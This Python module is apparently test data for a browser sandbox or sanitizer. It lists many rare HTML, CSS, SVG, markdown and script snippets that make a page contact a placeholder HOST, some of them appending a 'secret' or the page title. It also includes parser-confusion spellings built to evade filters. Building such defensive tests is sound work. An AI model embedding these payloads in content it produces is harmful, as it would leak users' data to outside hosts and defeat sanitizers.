"""Ways to call out that few lists have: old elements, odd spellings, other parsers, markup inside markup.

The same form of table as `exfiltration.PAGES`, which has the usual ones.
"""

from pages import Page, script, style

_SVG = "<svg xmlns=http://www.w3.org/2000/svg width=9 height=9>{}</svg>"
_SVG_FILE = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">{}</svg>'
)

_ELEMENTS = (
    Page("track of a video", "<body><video crossorigin><track default kind=subtitles src=http://HOST/x.vtt></video>"
         "<script>document.querySelector('track').track.mode = 'showing'</script>"),
    Page("manifest link", "<link rel=manifest href=http://HOST/x.json>"),
    Page("icon link", "<link rel=icon href=http://HOST/x.ico>"),
    Page("dictionary link", "<link rel=compression-dictionary href=http://HOST/x>"),
    Page("stylesheet link in the body", "text<link rel=stylesheet href=http://HOST/x.css>"),
    Page("embed of a PDF", "<embed src=http://HOST/x.pdf type=application/pdf>"),
    Page("object without a type", "<object data=//HOST/x.svg></object>"),
    Page("frame with a fallback", "<object data=data:,><img src=http://HOST/x></object>"),
    Page("noscript", "<noscript><img src=http://HOST/x></noscript><img src=http://HOST/y>"),
    Page("image with attribution", "<img attributionsrc=http://HOST/a src=http://HOST/x>"),
    Page("image that loads lazily", "<img loading=lazy src=http://HOST/x width=9 height=9>"),
    Page("frame that loads lazily", "<iframe loading=lazy src=http://HOST/></iframe>"),
    Page("SVG image in a picture",
         "<picture><source type=image/svg+xml srcset=http://HOST/x.svg><img src=data:,></picture>"),
    Page("template put in place by a script", "<body><template><img src=http://HOST/x></template><script>"
         "document.body.append(document.querySelector('template').content)</script>"),
    Page("dialog", "<dialog open><img src=http://HOST/x></dialog>"),
    Page("select with a picture", "<select><option>a</select><marquee><img src=http://HOST/x></marquee>"),
)  # fmt: skip
_SPELLINGS = (
    Page("no scheme", "<img src=//HOST/x.png>"),
    Page("backslashes", "<img src='http:\\\\HOST\\x.png'>"),
    Page("a line break in the address", "<img src='ht\ntp://HOST/x.png'>"),
    Page("character references", "<img src='&#104;ttp&colon;//HOST/x.png'>"),
    Page("capital letters", "<IMG SRC=HTTP://HOST/x.png>"),
    Page("slashes for spaces", "<img/src=http://HOST/x.png/alt=x>"),
    Page("a comment that never was one", "<!--><img src=http://HOST/x.png>-->"),
    Page("a comment closed by an exclamation mark", "<!-- --!><img src=http://HOST/x.png> -->"),
    Page("CDATA outside of XML", "<![CDATA[><img src=http://HOST/x.png>]]>"),
    Page("a title that ends early", "<title></title><img src=http://HOST/x.png></title>"),
    Page("a text area that ends early", "<textarea></textarea><img src=http://HOST/x.png>"),
    Page("a plain image tag", "<image src=http://HOST/x.png>"),
    Page("a base that a style uses", "<base href=http://HOST/><p style='background: url(x.png)'>text"),
    Page("meta refresh without 'url='", '<meta http-equiv=Refresh content="0;http://HOST/?secret">'),
    Page("meta refresh in the body", '<body>text<meta http-equiv=refresh content="0, http://HOST/?secret">'),
    Page("meta refresh to a data URL", "<meta http-equiv=refresh content=\"0;url='http://HOST/?secret'\">"),
)  # fmt: skip
_STYLES = (
    style("cursor", "body {cursor: url(http://HOST/x.cur), auto} p {content: url(http://HOST/y.png)}"),
    style("image-set in content", "p::after {content: image-set('http://HOST/x.png' 1x)}"),
    style("cross-fade", "p {background: -webkit-cross-fade(url(http://HOST/x.png), url(http://HOST/y.png), 50%)}"),
    style("shape-outside", "p {float: left; shape-outside: url(http://HOST/x.png)}"),
    style("clip-path", "p {clip-path: url(http://HOST/x.svg#c)}"),
    style("has, which reads another element", "body:has(input[value=secret]) p {background: url(http://HOST/has)}"),
    style("first letter", "p::first-letter {background: url(http://HOST/x.png)}"),
    style("placeholder of a field", "input::selection, input {background-image: url(http://HOST/x.png)}"),
    style("media query", "@media (min-width: 1px) {p {background: url(http://HOST/x.png)}}"),
    style("supports", "@supports (display: grid) {p {background: url(http://HOST/x.png)}}"),
    style("nested rules", "body {& p {background: url(http://HOST/x.png)}}"),
    style("layer and scope", "@layer a {@scope (body) {p {background: url(http://HOST/x.png)}}}"),
    style("escaped letters", r"p {background: \75rl(http://HOST/x.png)}"),
    style("an import without url()", "@\\69mport 'http://HOST/x.css';"),
    style("counter style", "@counter-style c {system: cyclic; symbols: 'x'} p {display: list-item;"
          " list-style: c url(http://HOST/x.png)}"),
    style("scroll bar", "body {overflow: scroll} ::-webkit-scrollbar {background: url(http://HOST/x.png)}"),
    Page("link to a stylesheet in a data URL",
         "<link rel=stylesheet href='data:text/css,@import%20url(http://HOST/x.css);'>"),
)  # fmt: skip
_SCRIPTS = (
    script("FontFace", "new FontFace('x', 'url(http://HOST/x.woff2)').load()"),
    script("audio object", "new Audio('http://HOST/x.mp3').load()"),
    script("document.write", "document.write('<img src=http://HOST/x>')"),
    script("importScripts of a worker",
           "new Worker(URL.createObjectURL(new Blob([\"importScripts('http://HOST/x.js')\"])))"),
    script("module with a type", "import('http://HOST/x.json', {with: {type: 'json'}})"),
    script("animation by script",
           "document.body.animate([{backgroundImage: 'url(http://HOST/x.png)'}], 1000)"),
    script("navigation to a blob",
           "location = URL.createObjectURL(new Blob(['<img src=http://HOST/x>'], {type: 'text/html'}))"),
    script("anchor with a download", "a = document.createElement('a'); a.href = 'http://HOST/x'; a.download = 'x';"
           "document.body.append(a); a.click()"),
    script("area by script", "document.body.innerHTML = '<map><area href=http://HOST/></map>';"
           "document.querySelector('area').click()"),
    script("button with a form action", "document.body.innerHTML = '<form><button formaction=http://HOST/>x</form>';"
           "document.querySelector('button').click()"),
    script("image button", "document.body.innerHTML = '<form action=http://HOST/><input type=image></form>';"
           "document.querySelector('input').click()"),
    script("field that submits when it gets the focus",
           "document.body.innerHTML = '<form action=http://HOST/><input autofocus onfocus=form.submit()></form>';"
           "document.querySelector('input').focus()"),
    script("window.open", "open('http://HOST/?secret')"),
    script("opener's location", "w = open('about:blank'); w.document.write('<img src=http://HOST/x>')"),
    script("XSLT", "p = new DOMParser().parseFromString('<a/>', 'text/xml'); x = new XMLHttpRequest();"
           "x.open('GET', 'http://HOST/x.xsl', false); try {x.send()} catch (e) {}"),
    script("fetch with what the page knows", "fetch('http://HOST/' + document.title, {credentials: 'include',"
           " mode: 'no-cors'})"),
    script("prefetch put in by script", "l = document.createElement('link'); l.rel = 'preconnect';"
           "l.href = 'http://HOST/'; document.head.append(l)"),
)  # fmt: skip
_HEADERS = (
    Page("Link header: preconnect", "text", headers={"Link": "<http://HOST/>; rel=preconnect"}),
    Page("Link header: dns-prefetch", "text", headers={"Link": "<http://HOST/>; rel=dns-prefetch"}),
    Page("Link header: modulepreload", "text", headers={"Link": "<http://HOST/x.js>; rel=modulepreload"}),
)
_OTHER_LANGUAGES = (
    Page("SVG use", _SVG.format("<image href=http://HOST/x.png width=9 height=9 id=i /><use href=#i />")),
    Page("SVG animate", _SVG.format("<image width=9 height=9><animate attributeName=href values=http://HOST/x.png "
                                    "dur=1s fill=freeze /></image>")),
    Page("SVG script", _SVG.format("<script href=http://HOST/x.js></script>")),
    Page("SVG pattern", _SVG.format("<pattern id=p width=9 height=9><image href=http://HOST/x width=9 height=9 />"
                                    "</pattern><rect width=9 height=9 fill=url(#p) />")),
    Page("SVG style attribute", _SVG.format("<rect width=9 height=9 style='fill: url(http://HOST/x.svg#f)' />")
         + "<p style='mask: url(http://HOST/x.svg#m)'>text"),
    Page("SVG document: foreign HTML",
         _SVG_FILE.format('<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" '
                          'src="http://HOST/x"/></foreignObject>'), "image/svg+xml"),
    Page("SVG document: xlink",
         _SVG_FILE.format('<image xlink:href="http://HOST/x.png" width="9" height="9"/>'), "image/svg+xml"),
    Page("SVG document: feImage",
         _SVG_FILE.format('<filter id="f"><feImage href="http://HOST/x.png"/></filter>'
                          '<rect width="9" height="9" filter="url(#f)"/>'), "image/svg+xml"),
    Page("SVG document: a style that imports",
         _SVG_FILE.format('<style>@import "http://HOST/x.css";</style>'), "image/svg+xml"),
    Page("SVG document: a set that navigates",
         _SVG_FILE.format("<script>location = 'http://HOST/?secret'</script>"), "image/svg+xml"),
    Page("MathML inside SVG", "<svg><desc><math><mi><img src=http://HOST/x></mi></math></desc></svg>"),
    Page("a style in an SVG that ends early",
         "<svg><style><img title='</style><img src=http://HOST/x>'></style></svg>"),
    Page("markdown image by reference", "![x][r]\n\n[r]: http://HOST/x.png\n", "text/markdown"),
    Page("markdown image in a link", "[![x](http://HOST/x.png)](http://HOST/)", "text/markdown"),
    Page("markdown image in a table", "|a|\n|-|\n|![x](http://HOST/x.png)|\n", "text/markdown"),
    Page("HTML in a markdown heading", "# <img src=http://HOST/x.png>\n", "text/markdown"),
    Page("markdown image with an odd scheme", "![x](HTTP://HOST/x.png 'title')", "text/markdown"),
)  # fmt: skip

_NEWER = (
    Page("image by widths", '<img sizes=100vw srcset="http://HOST/x.png 100w, http://HOST/y.png 200w">'),
    Page("object of HTML", "<object type=text/html data=http://HOST/></object>"),
    Page("preload of a font", "<link rel=preload as=font crossorigin href=http://HOST/x.woff2>"),
    Page("preload of data", "<link rel=preload as=fetch crossorigin href=http://HOST/x>"),
    Page(
        "speculation rules: prerender",
        '<script type=speculationrules>{"prerender": [{"source": "list", "urls": ["https://HOST/"],'
        ' "eagerness": "immediate"}]}</script>',
    ),
    style("reflection", "p {-webkit-box-reflect: below 0 url(http://HOST/x.png)}"),
    style("mask of a box", "p {-webkit-mask-box-image: url(http://HOST/x.png)}"),
    style("marker", "p {display: list-item} p::marker {content: url(http://HOST/x.png)}"),
    style("starting style", "p {transition: background 1s; @starting-style {background: url(http://HOST/x.png)}"
          " background: url(http://HOST/y.png)}"),
    script("navigation API", "navigation.navigate('http://HOST/?secret')"),
    script("requestSubmit", "document.body.innerHTML = '<form action=http://HOST/></form>';"
           "document.forms[0].requestSubmit()"),
    script("setHTMLUnsafe", "document.body.setHTMLUnsafe('<img src=http://HOST/x>')"),
    script("contextual fragment",
           "document.body.append(document.createRange().createContextualFragment('<img src=http://HOST/x>'))"),
    script("document of a parser", "document.body.append(document.adoptNode("
           "new DOMParser().parseFromString('<img src=http://HOST/x>', 'text/html').images[0]))"),
)  # fmt: skip

RARE: tuple[Page, ...] = _NEWER + _ELEMENTS + _SPELLINGS + _STYLES + _SCRIPTS + _HEADERS + _OTHER_LANGUAGES
NOT_IN_THIS_BROWSER = (
    Page("applet", "<applet archive=http://HOST/x.jar code=x></applet>"),
    Page("background sound", "<bgsound src=http://HOST/x.wav>"),
    Page("portal", "<portal src=http://HOST/></portal>"),
    Page("prerender link", "<link rel=prerender href=http://HOST/>"),
    Page("HTML import", "<link rel=import href=http://HOST/x.html>"),
    Page("dynsrc", "<img dynsrc=http://HOST/x.avi lowsrc=http://HOST/x.png>"),
    Page("menu item", "<menuitem icon=http://HOST/x.png>"),
    Page("MathML link", "<math href=http://HOST/><mi>x</mi></math>"),
    Page(
        "SVG document with an XSLT instruction",
        '<?xml-stylesheet type="text/xsl" href="http://HOST/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        "image/svg+xml",
    ),
    style("import of a data URL", "@import url(data:text/css,p%7Bbackground:url(http://HOST/x.png)%7D);"),
    style("behaviour", "p {behavior: url(http://HOST/x.htc); -moz-binding: url(http://HOST/x.xml#a)}"),
    style("expression", "p {width: expression(document.images[0].src='http://HOST/')}"),
    style("filter of another origin", "p {filter: url(http://HOST/x.svg#f)}"),
    style("namespace", "@namespace x url(http://HOST/); p {color: red}"),
    Page("HTML blocks in markdown that is not rendered as HTML", "`<img src=http://HOST/x.png>`", "text/markdown"),
)
"""What other browsers do or did, and headless Chromium does not: no positive control here, and held all the same."""
